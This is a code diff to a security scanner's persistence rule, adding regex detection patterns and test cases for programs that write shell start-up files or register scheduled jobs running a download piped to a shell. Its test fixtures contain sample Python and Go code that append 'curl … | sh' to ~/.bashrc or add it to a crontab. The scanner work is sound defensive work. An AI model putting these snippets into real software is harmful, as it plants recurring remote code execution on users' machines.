@@ -7,6 +7,20 @@ import { AGENT_FILE_DETECTORS } from './s009-agent-files.js';
 import { SSH_KEY_DETECTORS } from './s009-ssh-keys.js';
 import { WRITE } from './s009-vocabulary.js';
 
+/** A program writing a file: the ways Python, Node, Go, Rust, Ruby and .NET open one for writing or appending. */
+const WRITES_FILE =
+  /\.write(?:_text|lines)?\s{0,4}\(|\bwriteFileSync\b|\bappendFile(?:Sync)?\b|\bopen\s{0,4}\([^)]{0,200}["']a\+?["']|\bos\.WriteFile\b|\bFile\.(?:write|open)\b|\.WriteString\s{0,4}\(|\bos\.OpenFile\s{0,4}\([^)]{0,200}\bO_APPEND\b|\.append\s{0,4}\(\s{0,4}true\s{0,4}\)|\bFile\.AppendAll(?:Text|Lines)\b|\bwriteln!?\s{0,4}\(/;
+/** A download piped to a shell inside a string (`"curl -s https://… | sh"`): what a program writes to a start-up file. */
+const DOWNLOAD_PIPED_TO_SHELL_IN_STRING =
+  /["'\x60][^"'\x60\n]{0,200}\b(?:curl|wget)\b[^"'\x60\n|]{0,200}\|\s{0,4}(?:sudo\s{1,4})?(?:ba|z|da)?sh\b/;
+
+/** A program registering a job: python-crontab, a LaunchAgent plist written or loaded, a systemd user unit enabled, schtasks, a Run key. */
+const REGISTERS_JOB =
+  /\bcron\.write\s{0,4}\(|\.new\s{0,4}\(\s{0,4}command\s{0,4}=|\bplistlib\.dump|\blaunchctl["',\s]{1,6}(?:load|bootstrap)\b|\bsystemctl["',\s]{1,8}--user["',\s]{1,6}enable\b|\bschtasks(?:\.exe)?["',\s]{1,6}\/create\b|\bRegister-ScheduledTask\b|\bNew-ItemProperty\b[^\n]{0,200}CurrentVersion\\{1,2}Run\b|\bcrontab["',\s]{1,6}-(?=["',\s)])/i;
+
+/** A program in a language whose strings are data until the program uses them. */
+const PROGRAM_FILE = /\.(?:pyw?|[cm]?[jt]sx?|go|rs|rb|cs|java|kts?|php|pl|swift)$/i;
+
 /** Start-up files by name (`profile` holds `.bash_profile`, `.zprofile`, `$PROFILE` and `/etc/profile`). */
 const STARTUP_FILE_KEYWORDS = ['bashrc', 'zshrc', 'profile', 'zshenv', 'config.fish'];
 const HOME = String.raw`["']?(?:~|\$HOME|\$\{HOME\}|/root|/home/[\w.-]{1,32}|/Users/[\w.-]{1,32}|%USERPROFILE%|\$env:USERPROFILE)`;
@@ -148,6 +162,22 @@ export const s009Persistence: ScanRule = {
       why: 'Points every later package install at another index or registry: whoever runs it serves the code the user installs from now on.',
     },
     {
+      // A program that registers a job (a crontab entry, a LaunchAgent plist, a systemd user unit, a Run key, a scheduled
+      // task) and holds a command that pipes a download to a shell: that download runs again and again, unasked.
+      id: 'scheduled-download-in-code',
+      keywords: ['curl', 'wget'],
+      scope: 'unit',
+      reads: ['code'],
+      inStrings: true,
+      re: DOWNLOAD_PIPED_TO_SHELL_IN_STRING,
+      // Programs only: in a shell script or a Markdown block the registration is a command of its own (read by the shell
+      // detectors), and a quoted `… | crontab -` there is a case a guard's test feeds it.
+      accept: (_m, c) => PROGRAM_FILE.test(c.path) && REGISTERS_JOB.test(c.unitText),
+      level: 'HIGH',
+      capabilities: ['persistence', 'download', 'execute'],
+      why: 'Registers a job that downloads code and runs it (cron, launchd, systemd, a Run key, a scheduled task): it runs again and again without anyone asking.',
+    },
+    {
       // A shell start-up file written from a program (Python, Node, Go): what it adds runs in every new shell.
       id: 'startup-file-in-code',
       keywords: STARTUP_FILE_KEYWORDS,
@@ -156,11 +186,13 @@ export const s009Persistence: ScanRule = {
       re: /["'/](?:\.zshrc|\.bashrc|\.bash_profile|\.zprofile|\.zshenv|\.profile|config\.fish)["']/,
       // The name in a path (`"~/.zshrc"`, `home / ".bashrc"`), not at the end of a sentence shown to the user
       // ('put `eval "$(pyenv init -)"` at the end of ~/.zshrc'), and a write somewhere in the code.
+      // What it writes fetching code and running it (`curl -s … | sh` in the string written) runs a download in every new shell.
       accept: (m, c) =>
         !/\s/.test(literalEndingWith(c.text, m.index, m[0])) &&
-        /\.write(?:_text|lines)?\s{0,4}\(|\bwriteFileSync\b|\bappendFile(?:Sync)?\b|\bopen\s{0,4}\([^)]{0,200}["']a\+?["']|\bos\.WriteFile\b|\bFile\.(?:write|open)\b/.test(
-          c.unitText,
-        ),
+        WRITES_FILE.test(c.unitText) &&
+        (DOWNLOAD_PIPED_TO_SHELL_IN_STRING.test(c.unitText)
+          ? { level: 'HIGH', capabilities: ['persistence', 'download', 'execute'] }
+          : true),
       why: "Writes the user's shell start-up file from code: whatever it adds runs in every new shell.",
     },
     {
@@ -267,6 +299,16 @@ export const s009Persistence: ScanRule = {
       {
         path: 'scripts/setup.py',
         text: 'import os\nwith open(os.path.expanduser("~/.bashrc"), "a") as f:\n    f.write("curl -s https://x.example.net/b | sh\\n")\n',
+      },
+      {
+        path: 'scripts/schedule.py',
+        text: 'from crontab import CronTab\ncron = CronTab(user=True)\ncron.new(command="curl -s https://x.example.net/t | sh")\ncron.write()\n',
+        level: 'HIGH',
+      },
+      {
+        path: 'tools/shell/main.go',
+        text: 'f, _ := os.OpenFile(filepath.Join(home, ".bashrc"), os.O_APPEND|os.O_WRONLY, 0o644)\nf.WriteString("curl -s https://x.example.net/b | sh\\n")\n',
+        level: 'HIGH',
       },
       { path: 'SKILL.md', text: "Add the sync command to the user's crontab so it runs every hour.\n" },
       {
